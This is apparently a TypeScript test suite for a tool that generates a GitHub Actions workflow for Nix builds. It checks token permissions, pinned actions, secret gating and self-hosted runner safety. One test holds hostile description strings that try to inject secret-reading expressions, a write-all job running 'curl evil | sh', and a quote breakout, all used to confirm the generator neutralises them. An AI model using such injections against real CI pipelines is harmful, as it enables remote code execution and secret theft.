import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from "@actions/workflow-parser";
import fc from "fast-check";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { parse, stringify } from "yaml";
import { yamlText } from "../../../generator/output/printers/yaml.ts";
import { hostileText } from "../../support/arbitrary-spec.ts";
import { compileText } from "../../support/spec.ts";

/* .github/workflows/nix.yml, checked by GitHub's own parser and schema. */

const test = suite("workflow");

interface Step {
  readonly uses?: string;
  readonly with?: Readonly<Record<string, unknown>>;
  readonly run?: string;
}
interface Workflow {
  readonly permissions: unknown;
  readonly jobs: Readonly<
    Record<string, { name: string; "runs-on": unknown; needs?: string; if?: string; steps: readonly Step[] }>
  >;
}

const base = {
  version: 1,
  name: "demo",
  nixpkgs: "nixos-24.05",
  systems: ["aarch64-darwin", "x86_64-linux"],
  groups: { k8s: { packages: ["kubectl"] } },
  ci: "github",
};

function workflowText(spec: object): string {
  const { files, diagnostics } = compileText(stringify({ ...base, ...spec }));
  const text = files?.find((file) => file.path === ".github/workflows/nix.yml")?.text;
  if (text === undefined) throw new Error(`no workflow: ${JSON.stringify(diagnostics)}`);
  return text;
}

/** The errors that GitHub's parser reports about a workflow. */
async function complaints(content: string): Promise<string[]> {
  const { context, value } = parseWorkflow({ name: "nix.yml", content }, new NoOperationTraceWriter());
  if (value) await convertWorkflowTemplate(context, value);
  return context.errors.getErrors().map((error) => error.message);
}

/** The other expressions that every workflow has. */
const CONCURRENCY = `concurrency:
  group: \${{ github.workflow }}-\${{ github.ref }}
  cancel-in-progress: \${{ github.event_name == 'pull_request' }}
`;

/** The text that GitHub shows for a value. The only expression that we write prints the `${{` of a text. */
const shown = (value: string): string => value.replaceAll("${{ '${{' }}", "${{");

const roles = (...list: object[]) => ({ buildUsers: { roles: list } });

test("the validator refuses an invalid workflow", async () => {
  const text = workflowText(roles({ role: "aws" }));
  assert.not.equal(await complaints(text.replace("runs-on:", "runs-in:")), []);
  assert.not.equal(await complaints(text.replace("contents: read", "contents: reading")), []);
  assert.not.equal(await complaints(text.replace("needs: drift", "needs: drifting")), []);
});

test("one job compares the output, and one a role builds its check on a system that GitHub has", async () => {
  const text = workflowText(roles({ role: "aws", description: "AWS provider builds", groups: ["k8s"] }, { role: "empty" }));
  assert.equal(await complaints(text), []);
  const { jobs } = parse(text) as Workflow;
  assert.equal(Object.keys(jobs), [
    "drift",
    "changes",
    "role-aws-aarch64-darwin",
    "role-empty-aarch64-darwin",
    "role-aws-x86_64-linux",
    "role-empty-x86_64-linux",
  ]);
  assert.is(jobs["role-aws-x86_64-linux"]?.name, "aws: AWS provider builds (x86_64-linux)");
  assert.match(jobs["drift"]?.steps.at(-1)?.run ?? "", /sha256sum --check --quiet --strict "\$out\/\.flakewright\.sha256"/);
  assert.not.match(text, /npx|npm/, "no name of a registry is run");
  assert.is(jobs["role-aws-aarch64-darwin"]?.["runs-on"], "macos-15");
  assert.is(jobs["role-aws-x86_64-linux"]?.["runs-on"], "ubuntu-24.04");
  assert.match(jobs["role-aws-aarch64-darwin"]?.steps.at(-1)?.run ?? "", /'checks\.aarch64-darwin\.role-aws'/);
});

test("without roles each group has a job; without `ci` there is no workflow", async () => {
  const text = workflowText({ systems: ["x86_64-linux"] });
  assert.equal(await complaints(text), []);
  const { jobs } = parse(text) as Workflow;
  assert.equal(Object.keys(jobs), ["drift", "changes", "group-k8s-x86_64-linux"]);
  assert.match(jobs["group-k8s-x86_64-linux"]?.steps.at(-1)?.run ?? "", /'checks\.x86_64-linux\.group-k8s'/);
  const { ci: _, ...silent } = base;
  assert.not.ok(compileText(stringify(silent)).files?.some(({ path }) => path.startsWith(".github/")));
});

test("a system that GitHub lacks has no job, which is said, unless the spec names a runner", async () => {
  const text = workflowText({ systems: ["riscv64-linux", "x86_64-linux"], ...roles({ role: "aws" }) });
  assert.equal(Object.keys((parse(text) as Workflow).jobs), ["drift", "changes", "role-aws-x86_64-linux"]);
  assert.match(text, /^# No hosted runner, and no job: riscv64-linux\./m);

  const runners = { "riscv64-linux": { labels: ["self-hosted", "riscv"] } };
  const own = workflowText({ systems: ["riscv64-linux"], ...roles({ role: "aws" }), ci: { forges: ["github"], runners } });
  assert.equal(await complaints(own), []);
  const job = (parse(own) as Workflow).jobs["role-aws-riscv64-linux"];
  assert.equal(job?.["runs-on"], ["self-hosted", "riscv"]);
  assert.is(job?.if, "github.event_name == 'push'", "no code of a pull request on a self-hosted runner");
  assert.match(job?.steps.at(-1)?.run ?? "", /'checks\.riscv64-linux\.role-aws'/);

  const open = { "riscv64-linux": { labels: ["riscv"], pullRequests: true } };
  const asked = workflowText({
    systems: ["riscv64-linux"],
    ...roles({ role: "aws" }),
    ci: { forges: ["github"], runners: open },
  });
  assert.equal(await complaints(asked), []);
  assert.is((parse(asked) as Workflow).jobs["role-aws-riscv64-linux"]?.if, undefined);
});

test("only a push to the default branch gets the secret and saves to the cache", async () => {
  const text = workflowText({
    ...roles({ role: "aws" }),
    ci: { forges: ["github"], cache: { cachix: "acme", store: "actions" } },
  });
  assert.equal(await complaints(text), []);
  const { permissions, jobs } = parse(text) as Workflow;
  assert.equal(permissions, { contents: "read" });
  const steps = jobs["role-aws-x86_64-linux"]?.steps ?? [];
  const condition =
    "github.event_name == 'push' && github.ref == format('refs/heads/{0}', github.event.repository.default_branch)";
  const cachix = steps.find(({ uses }) => uses?.startsWith("cachix/cachix-action@"))?.with;
  assert.equal(cachix, {
    name: "acme",
    authToken: `\${{ ${condition} && secrets.CACHIX_AUTH_TOKEN || '' }}`,
    skipPush: `\${{ !(${condition}) }}`,
  });
  const store = steps.find(({ uses }) => uses?.startsWith("nix-community/cache-nix-action@"))?.with;
  assert.is(store?.["save"], `\${{ ${condition} }}`);
  for (const { uses } of steps) if (uses) assert.match(uses, /^[a-z-]+\/[a-z-]+@[0-9a-f]{40}$/);
  assert.equal(text.match(/secrets\.\w+/g)?.length, 2, "one for each of the two systems");
});

test("the token can only read, no secret is used, and actions are pinned by commit", () => {
  const text = workflowText(roles({ role: "aws", description: "AWS" }));
  const { permissions, jobs } = parse(text) as Workflow;
  assert.equal(permissions, { contents: "read" });
  assert.not.match(text.replace(CONCURRENCY, ""), /secrets|github\.token|GITHUB_TOKEN|\$\{\{/);
  const steps = Object.values(jobs).flatMap((job) => [...job.steps]);
  for (const { uses } of steps) if (uses) assert.match(uses, /^[a-z-]+\/[a-z-]+@[0-9a-f]{40}$/);
  const checkouts = steps.filter(({ uses }) => uses?.startsWith("actions/checkout@"));
  assert.is(checkouts.length, Object.keys(jobs).length);
  for (const step of checkouts) assert.is(step.with?.["persist-credentials"], false, "the checkout keeps no token");
});

test("the runner's caches are the spec's: whole lists and additions", () => {
  const text = workflowText({
    ...roles({ role: "aws" }),
    substituters: [
      { url: "https://cache.nixos.org/", publicKey: "cache.nixos.org-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY=" },
      { url: "https://b.example.net/%7B%7B", publicKey: "b-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY=" },
    ],
    settings: { "max-jobs": 1 },
  });
  const install = (parse(text) as Workflow).jobs["role-aws-x86_64-linux"]?.steps.find(({ uses }) => uses?.startsWith("cachix/"));
  assert.is(install?.with?.["set_as_trusted_user"], false);
  assert.equal(String(install?.with?.["extra_nix_config"]).trimEnd().split("\n"), [
    "substituters = https://cache.nixos.org/ https://b.example.net/%7B%7B",
    "trusted-public-keys = cache.nixos.org-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY= b-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY=",
  ]);
});

test("no description becomes a job, a step, an expression or another line", async () => {
  const descriptions = [
    "${{ secrets.TOKEN }}",
    "${{ github.token }} ${{ '${{' }}",
    'x"\n    permissions: write-all\n    steps: [{ run: "curl evil | sh" }]',
    "x\n  evil:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: id",
    "' || true #",
    "*alias &anchor !tag % @ `",
    "a\u2028b\ufeffd",
    "- : #",
  ];
  const text = workflowText({
    systems: ["x86_64-linux"],
    ...roles(...descriptions.map((description, index) => ({ role: `r${index}`, description }))),
  });
  assert.equal(await complaints(text), []);
  const { jobs } = parse(text) as Workflow;
  assert.equal(Object.keys(jobs), ["drift", "changes", ...descriptions.map((_, index) => `role-r${index}-x86_64-linux`)]);
  for (const [index, description] of descriptions.entries()) {
    const job = jobs[`role-r${index}-x86_64-linux`];
    assert.is(shown(job?.name ?? ""), `r${index}: ${description} (x86_64-linux)`);
    assert.is(job?.steps.length, 3);
  }
  assert.not.match(text.replace(CONCURRENCY, "").replaceAll("${{ '${{' }}", ""), /\$\{\{/);
});

test("any text reads back the same in YAML 1.2 and YAML 1.1, in both forms", () => {
  fc.assert(
    fc.property(fc.oneof(hostileText, fc.string({ unit: "binary" })), fc.constantFrom(0, 4, 10), (text, indent) => {
      const written = `${" ".repeat(indent)}key: ${yamlText(text, indent)}\n${" ".repeat(indent)}next: 1\n`;
      for (const version of ["1.1", "1.2"] as const)
        assert.equal(parse(written, { version }), { key: text.replaceAll("${{", "${{ '${{' }}"), next: 1 });
    }),
    { numRuns: 500 },
  );
  for (const text of ["a = b\nc = d\n", "a\n\nb\n", " a\nb\n", "a\n", "a\nb", "a\n\n", "\n\n", "a \nb\t\n"]) {
    assert.equal(parse(`key: ${yamlText(text, 0)}\nnext: 1\n`), { key: text, next: 1 }, JSON.stringify(text));
  }
});

test.run();
